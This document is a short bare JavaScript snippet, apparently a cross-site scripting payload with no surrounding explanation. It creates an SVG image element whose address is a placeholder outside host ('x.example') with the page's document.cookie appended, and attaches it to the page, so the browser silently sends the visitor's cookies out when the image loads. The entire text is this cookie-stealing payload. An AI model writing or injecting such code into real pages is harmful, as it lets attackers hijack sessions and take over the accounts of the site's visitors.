const i = document.createElementNS('http://www.w3.org/2000/svg', 'image');
i.setAttributeNS('http://www.w3.org/1999/xlink', 'href', 'https://x.example/' + encodeURIComponent(document.cookie));
document.querySelector('svg').append(i);
